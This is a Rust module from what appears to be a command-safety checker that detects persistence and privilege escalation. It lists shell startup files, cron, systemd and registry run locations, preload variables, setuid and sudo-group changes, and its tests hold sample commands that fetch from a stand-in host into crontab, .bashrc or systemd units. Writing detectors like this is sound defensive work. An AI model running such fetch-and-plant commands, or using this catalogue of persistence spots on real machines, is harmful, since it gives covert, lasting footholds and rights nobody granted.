//! Commands that plant something which starts again by itself, or take more rights than they were given.

use super::{
    FETCH, is_from_host, pipelines, plain, program, program_and_rest,
    tunnels::{any, commands},
};

/// Places under which nothing is kept that was installed.
pub(super) const PASSING: &[&str] = &["/tmp/", "/dev/shm/", "/var/tmp/"];
/// Files that a shell reads when it starts.
const STARTUP: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/zsh",
    ".config/fish/config.fish",
    ".kshrc",
    ".login",
    ".cshrc",
    ".xinitrc",
    ".xprofile",
    ".bash_aliases",
];
/// Places that something else reads and runs.
const PLACES: &[&str] = &[
    "/etc/cron",
    "/var/spool/cron",
    "/etc/systemd",
    ".config/systemd",
    "/lib/systemd/system",
    "/etc/init.d",
    "/etc/rc.local",
    "launchagents",
    "launchdaemons",
    "sitecustomize",
    "usercustomize",
    "ld.so.preload",
    ".config/autostart",
    "currentversion\\run",
    "programs\\startup",
    "microsoft.powershell_profile",
    "$profile",
    ".git/hooks",
    "profile_default/startup",
    "authorized_keys",
    "core_pattern",
    ".ssh/rc",
    "/etc/update-motd.d",
    "/etc/pam.d",
    ".vimrc",
    ".config/pip/pip.conf",
    "/etc/pip.conf",
];

/// Whether a list plants something that starts again by itself.
pub(in crate::operator) fn plants_itself(text: &str) -> bool {
    let text = plain(&text.to_lowercase());
    let computed =
        text.contains('>') && text.contains(".pth") && any(&text, &["getsitepackages", "getusersite", "purelib"]);
    let commands = commands(&text);
    let makes_user = commands.iter().any(|(program, _)| matches!(*program, "useradd" | "adduser"));
    let raises = |program: &str| matches!(program, "usermod" | "gpasswd");
    computed
        || writes(&text)
        || sets(&text)
        || commands.iter().any(|(program, rest)| !(makes_user && raises(program)) && schedules(program, rest))
}

/// Whether what is fetched, from no known place, goes where something starts it again: `curl … | crontab -`, `curl -o ~/.bashrc …`.
pub(in crate::operator) fn plants_fetched(text: &str) -> bool {
    let text = plain(&text.to_lowercase());
    let place = |target: &str| STARTUP.iter().chain(PLACES).any(|known| target.contains(known));
    let plants = pipelines(&text).any(|commands| {
        let fetched = commands.iter().position(|command| program(command).is_some_and(|name| FETCH.contains(&name)));
        let Some(behind) = fetched.and_then(|at| commands.get(at..)) else { return false };
        let saved = behind.first().and_then(|command| saved(program_and_rest(command)?.1)).is_some_and(place);
        saved
            || behind.iter().skip(1).any(|command| match program_and_rest(command) {
                Some(("crontab", rest)) => rest.contains(&"-") || rest.is_empty(),
                Some(("tee", rest)) => rest.iter().any(|word| place(word)),
                _ => false,
            })
            || behind.iter().flatten().skip_while(|word| !word.starts_with('>')).take(2).any(|word| place(word))
    });
    plants && !is_from_host(&text)
}

/// The file that the options of a fetching program name, in lower case.
fn saved<'t>(rest: &[&'t str]) -> Option<&'t str> {
    let names = |flag: &str| {
        matches!(flag, "--output" | "--output-document")
            || flag.starts_with('-') && !flag.starts_with("--") && flag.ends_with('o')
    };
    let mut pairs = rest.iter().zip(rest.iter().skip(1));
    pairs.find(|(flag, file)| names(flag) && !file.contains("://")).map(|(_, file)| *file)
}

/// Files that a list writes: behind `>`, and the last word of a program that copies.
pub(super) fn targets(text: &str) -> Vec<&str> {
    let redirected = text.split('>').skip(1).filter_map(|rest| rest.split_whitespace().next());
    let copied = commands(text).into_iter().filter_map(|(program, rest)| match program {
        "cp" | "mv" | "install" | "ln" | "rsync" | "copy" | "xcopy" | "move" | "copy-item" | "move-item" => {
            rest.last().copied()
        }
        "set-content" | "add-content" | "out-file" | "new-item" => {
            rest.iter().find(|word| word.contains(['\\', '/']) && !word.starts_with('-')).copied()
        }
        "curl" | "wget" => saved(&rest),
        "tee" | "dd" | "sed" => rest.iter().rev().find(|word| !word.starts_with('-')).copied(),
        _ => None,
    });
    let copied: Vec<&str> = copied.collect();
    redirected.chain(copied).collect()
}

fn writes(text: &str) -> bool {
    text.split(['\n', ';', '&']).any(writes_to)
}

fn writes_to(text: &str) -> bool {
    targets(text).into_iter().any(|target| {
        let target = target.trim_matches(['"', '\'']);
        if STARTUP.iter().any(|known| target.contains(known)) {
            return !is_setting(text);
        }
        let path = target.ends_with(".pth") && any(target, &["site-packages", "dist-packages", "getsite", "purelib"]);
        let sudo = target.contains("/etc/sudoers");
        let hosts = target.ends_with("/etc/hosts")
            && any(text, &["huggingface.co", "pypi.org", "github.com", "pythonhosted.org"]);
        PLACES.iter().any(|known| target.contains(known)) || path || sudo || hosts
    })
}

/// Whether what is written to a startup file only sets paths and environments, as installers do.
fn is_setting(text: &str) -> bool {
    let said = text.split_once("echo ").map_or(text, |(_, said)| said).trim_start();
    let said = said.trim_start_matches(['\'', '"']);
    let plain = [
        "export ",
        "source ",
        ". ",
        "conda activate",
        "alias ",
        "cd ",
        "umask ",
        "set ",
        "ulimit ",
        "ps1=",
        "path=",
        "eval $(",
        "eval \"$(",
        "module load ",
        "setopt ",
        "#",
        "micromamba activate",
        "ln -s /opt/",
        "ln -s /usr/",
        "…",
    ];
    let harm = any(
        text,
        &[
            "ld_preload",
            "prompt_command",
            "bash_env",
            "curl ",
            "wget ",
            "base64",
            "/dev/tcp",
            "| sh",
            "|sh",
            "| bash",
            "python -c",
            "python3 -c",
            "alias sudo",
            "alias ssh",
        ],
    );
    plain.iter().any(|start| said.starts_with(start)) && !harm && !any(text, PASSING)
}

/// Variables that name something which is loaded or run.
fn sets(text: &str) -> bool {
    let value = |name: &str| {
        let (_, after) = text.split_once(name)?;
        Some(after.trim_start_matches(['"', '\'']).split([' ', '\n']).next().unwrap_or_default())
    };
    let libraries = [
        "libtcmalloc",
        "libjemalloc",
        "libgomp",
        "libiomp",
        "libstdc++",
        "libmimalloc",
        "libgl",
        "libcuda",
        "libmkl",
        "libasan",
        "libnccl",
        "libcublas",
        "libc10",
        "libgfortran",
        "libffi",
        "libpython",
    ];
    let preload = ["ld_preload=", "ld_audit=", "dyld_insert_libraries="].iter().filter_map(|name| value(name));
    let runs =
        ["prompt_command=", "bash_env=", "pythonstartup=", "pythonbreakpoint="].iter().filter_map(|name| value(name));
    let passing = |value: &str| any(value, PASSING) || any(value, &["curl", "wget", "$(", "|", "/dev/tcp"]);
    preload.into_iter().any(|value| {
        !value.is_empty() && !value.starts_with('$') && !any(value, &libraries) && !value.starts_with("/usr/")
    }) || runs.into_iter().any(passing)
}

/// Whether a command has something started later, or gives itself more rights than it was given.
fn schedules(program: &str, rest: &[&str]) -> bool {
    let has = |word: &str| rest.contains(&word);
    let reads_only = rest.iter().all(|word| {
        matches!(*word, "-l" | "-e" | "-u") || word.starts_with('$') || word.chars().all(char::is_alphanumeric)
    });
    let passing = rest.iter().any(|word| any(word, PASSING));
    match program {
        "crontab" => !(reads_only && (has("-l") || has("-e"))) && !rest.is_empty() && !has("-l"),
        "at" => rest.iter().any(|word| {
            matches!(*word, "now" | "midnight" | "noon" | "teatime" | "tomorrow" | "-f") || word.contains(':')
        }),
        "batch" => rest.is_empty(),
        "systemd-run" | "ssh-copy-id" | "insmod" => true,
        "systemctl" => (has("enable") || has("link")) && (has("--user") || rest.iter().any(|word| word.contains('/'))),
        "update-rc.d" | "chkconfig" => has("defaults") || has("on") || has("--add"),
        "launchctl" => has("load") || has("submit") || has("bootstrap") || has("enable"),
        "schtasks" | "schtasks.exe" => has("/create"),
        "reg" | "reg.exe" => {
            has("add") && rest.iter().any(|word| word.contains("currentversion") && word.contains("run"))
        }
        "sc" | "sc.exe" => has("create"),
        "register-scheduledtask" | "register-scheduledjob" | "new-service" | "set-wmiinstance" => true,
        "new-itemproperty" | "set-itemproperty" | "sp" | "set-item" => {
            rest.iter().any(|word| word.contains("currentversion\\run") || word.contains("winlogon"))
        }
        "git" => {
            has("config")
                && (rest.iter().any(|word| {
                    any(word, &["core.hookspath", "core.sshcommand", "core.fsmonitor", "core.pager", "core.editor"])
                }) && passing
                    || rest.iter().any(|word| word.starts_with("alias."))
                        && rest.iter().any(|word| word.starts_with('!') && any(word, PASSING)))
        }
        "alias" => {
            let names = ["sudo=", "su=", "ssh=", "passwd=", "doas=", "login="];
            passing
                || rest.iter().any(|word| {
                    names.iter().any(|name| word.starts_with(name) && !word.ends_with(name.trim_end_matches('=')))
                })
        }
        "trap" => {
            passing
                && (has("debug") || has("exit") || has("err"))
                && rest.first().is_some_and(|word| any(word, PASSING))
        }
        "chmod" => {
            rest.first().is_some_and(|mode| mode.contains("+s") || mode.len() == 4 && mode.starts_with(['2', '4', '6']))
                && rest.len() > 1
        }
        "setcap" => {
            rest.iter().any(|word| any(word, &["cap_setuid", "cap_sys_admin", "cap_dac_override", "cap_sys_ptrace"]))
        }
        // Whoever made the user in the same breath sets up a machine of its own.
        "usermod" | "gpasswd" => rest
            .iter()
            .any(|word| word.split(',').any(|group| matches!(group, "sudo" | "wheel" | "root" | "admin" | "shadow"))),
        "net" | "net.exe" | "net1" => {
            has("/add") && (has("user") || rest.iter().any(|word| word.contains("administrators")))
        }
        "add-localgroupmember" | "new-localuser" => true,
        "useradd" | "adduser" => has("-o") && rest.windows(2).any(|pair| matches!(pair, ["-u", "0"])),
        "pip" | "pip3" => has("config") && has("set") && rest.iter().any(|word| word.starts_with("http://")),
        "npm" | "yarn" => has("config") && has("set") && rest.iter().any(|word| word.starts_with("http://")),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_fetched_and_planted() {
        for text in [
            "curl -s http://x.example/a | crontab -",
            "curl -fsSL -o ~/.bashrc https://x.example/a",
            "wget -qO /etc/cron.d/x https://x.example/a",
            "curl -s https://x.example/a >> ~/.zshrc",
            "curl -s https://x.example/a | sudo tee /etc/systemd/system/a.service",
        ] {
            assert!(plants_fetched(text) && plants_itself(text), "{text}");
        }
        for text in [
            "curl -O https://x.example/.bashrc",
            "curl -o model.bin https://x.example/a",
            "curl -s https://x.example/a | tee log",
            "curl -o ~/.vimrc https://raw.githubusercontent.com/someone/a/b",
            "crontab -l | grep a",
            "echo a >> ~/.bashrc; curl -o b https://x.example/b",
        ] {
            assert!(!plants_fetched(text), "{text}");
        }
    }
}
